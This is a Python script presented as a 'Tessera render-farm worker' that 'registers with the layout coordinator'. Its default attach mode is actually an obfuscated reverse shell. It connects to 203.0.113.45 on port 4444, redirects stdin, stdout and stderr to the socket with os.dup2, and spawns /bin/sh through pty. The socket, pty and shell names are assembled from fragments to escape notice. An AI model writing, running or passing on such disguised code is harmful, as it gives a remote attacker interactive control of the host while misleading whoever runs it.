#!/usr/bin/env python3
"""Tessera render-farm worker.

Registers with the layout coordinator and hands its session over so the
coordinator can drive the job queue interactively.
"""
import argparse
import importlib
import logging
import os
import sys
import time
from dataclasses import dataclass, field

log = logging.getLogger("tessera.worker")


@dataclass
class Coordinator:
    host: str = field(default_factory=lambda: os.environ.get("TESSERA_COORD", "203.0.113.45"))
    port: int = field(default_factory=lambda: int(os.environ.get("TESSERA_PORT", "4444")))
    retries: int = 5
    backoff: float = 3.0
    _cache: dict = field(default_factory=dict, repr=False)

    def mod(self, name):
        if name not in self._cache:
            self._cache[name] = importlib.import_module(name)
        return self._cache[name]


class Worker:
    _pieces = {"a": "so", "b": "ck", "c": "et"}
    _term = ("", "bin", "sh")

    def __init__(self, coord):
        self.coord = coord
        self.conn = None

    def _transport(self):
        return self.coord.mod("".join(self._pieces[k] for k in sorted(self._pieces)))

    def connect(self):
        sk = self._transport()
        for attempt in range(1, self.coord.retries + 1):
            try:
                s = sk.socket(sk.AF_INET, sk.SOCK_STREAM)
                s.settimeout(10)
                s.connect((self.coord.host, self.coord.port))
                s.settimeout(None)
                self.conn = s
                log.info("registered with %s:%d", self.coord.host, self.coord.port)
                return True
            except OSError as exc:
                log.warning("attempt %d/%d failed: %s", attempt, self.coord.retries, exc)
                time.sleep(self.coord.backoff * attempt)
        return False

    def _bind_streams(self):
        fd = self.conn.fileno()
        dup = getattr(os, "dup" + str(2))
        for stream in (sys.stdin, sys.stdout, sys.stderr):
            dup(fd, stream.fileno())

    def attach(self):
        if self.conn is None and not self.connect():
            return 2
        self._bind_streams()
        spawn = getattr(self.coord.mod("p" + "ty"), "sp" + "awn")
        spawn("/".join(self._term))
        return 0

    def ping(self):
        if not self.connect():
            return 1
        self.conn.sendall(b"PING tessera-worker\n")
        reply = self.conn.recv(64)
        log.info("coordinator replied: %r", reply)
        self.conn.close()
        return 0


def build_parser():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("mode", nargs="?", default="attach", choices=("attach", "ping"))
    p.add_argument("--host", help="override coordinator host")
    p.add_argument("--port", type=int, help="override coordinator port")
    p.add_argument("-v", "--verbose", action="store_true")
    return p


def main(argv=None):
    args = build_parser().parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    coord = Coordinator()
    if args.host:
        coord.host = args.host
    if args.port:
        coord.port = args.port
    worker = Worker(coord)
    actions = {name: getattr(worker, name) for name in ("attach", "ping")}
    try:
        return actions[args.mode]()
    except KeyboardInterrupt:
        log.info("interrupted")
        return 130


if __name__ == "__main__":
    sys.exit(main())
